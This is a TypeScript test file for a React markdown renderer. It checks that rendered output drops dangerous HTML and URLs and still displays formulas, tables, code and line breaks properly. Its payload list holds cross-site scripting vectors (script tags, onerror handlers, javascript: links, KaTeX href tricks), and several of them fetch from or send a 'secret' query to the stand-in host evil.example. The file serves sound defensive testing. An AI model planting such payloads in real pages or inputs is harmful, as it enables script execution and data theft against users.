import { render, waitFor } from "@testing-library/react";
import { expect, it } from "vitest";

import "@/i18n";
import Rendered from "@/markdown/rendered";

Element.prototype.scrollTo ??= () => undefined; // jsdom scrolls nothing

const show = (text: string, streaming = false) => render(<Rendered text={text} streaming={streaming} />).container;

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <svg onload=alert(1)> text",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?q=secret)",
  "![x][r]\n\n[r]: https://evil.example/?q=secret",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```js onload=alert(1)\n</code><script>alert(1)</script>\n```",
  "$$\\href{javascript:alert(1)}{x}$$",
  "$$\\includegraphics{https://evil.example/x.png}$$",
  "$$\\htmlData{onclick=alert(1)}{x}$$",
  "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |",
  "<style>@import 'https://evil.example/x.css'</style>",
  "<form action='https://evil.example'><input name=q></form>",
  '<https://example.org/"onmouseover=alert(1)>',
  "# <object data='https://evil.example'></object>",
  "<details open ontoggle=alert(1)>x</details>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
];

it.each(PAYLOADS)("nothing runs and nothing is fetched: %s", (payload) => {
  for (const streaming of [true, false]) {
    const page = show(`before\n\n${payload}\n\nafter`, streaming);
    const forbidden = "script, iframe, object, embed, form, input, base, meta, link, style, video, audio, svg[onload]";
    expect(page.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of page.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith("on"), `${name}=${value}`).toBe(false);
        if (["href", "src", "action", "formaction", "xlink:href"].includes(name))
          expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
        if (name === "src" || name === "srcset" || name === "style") expect(value).not.toContain("evil.example");
      }
    }
    expect(page.textContent).toContain("after");
  }
});

it("shows HTML as the text it is", () => {
  expect(show("Use <b>bold</b> tags.\n\n<div>block</div>").textContent).toContain("<b>bold</b>");
  expect(show("<div>block</div>").textContent).toContain("<div>block</div>");
});

it("opens links beside the page and names where an image would come from", () => {
  const page = show("[site](https://example.org/a) ![chart](https://images.example/x.png)");
  const [link, image] = page.querySelectorAll("a");
  expect(link?.getAttribute("rel")).toContain("noopener");
  expect(image?.textContent).toContain("images.example");
  expect(page.querySelector("img")).toBeNull();
});

it("draws formulas, tables, code, and Chinese bold beside punctuation", async () => {
  const page = show("**“重要”**的事：$x^2$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```");
  expect(page.querySelector("[data-streamdown=strong]")?.textContent).toBe("“重要”");
  expect(page.querySelector(".katex")).not.toBeNull();
  expect(page.querySelectorAll("td")).toHaveLength(2);
  await waitFor(() => expect(page.textContent).toContain("print(1)"));
});

it("keeps the lines of a verse apart, and those of formulas and code as they are", () => {
  const verse = show("Roses are *red,\nviolets* are blue\n\n- one\n  two");
  expect(verse.querySelectorAll("br")).toHaveLength(2);
  expect(verse.textContent).not.toContain("red, violets");
  const code = show("```\na\nb\n```\n\n$$\nx\n+ y\n$$");
  expect(code.querySelectorAll("br")).toHaveLength(0);
});
